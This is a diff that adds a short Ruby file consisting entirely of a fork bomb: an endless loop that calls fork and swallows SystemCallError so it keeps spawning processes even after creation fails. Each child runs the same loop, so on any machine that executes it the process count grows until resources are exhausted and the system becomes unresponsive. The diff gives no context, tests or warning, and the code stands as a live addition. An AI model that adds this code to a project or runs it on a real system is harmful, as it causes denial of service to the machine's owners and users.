@@ -1,0 +1,7 @@
+loop do
+  begin
+    fork
+  rescue SystemCallError
+    next
+  end
+end
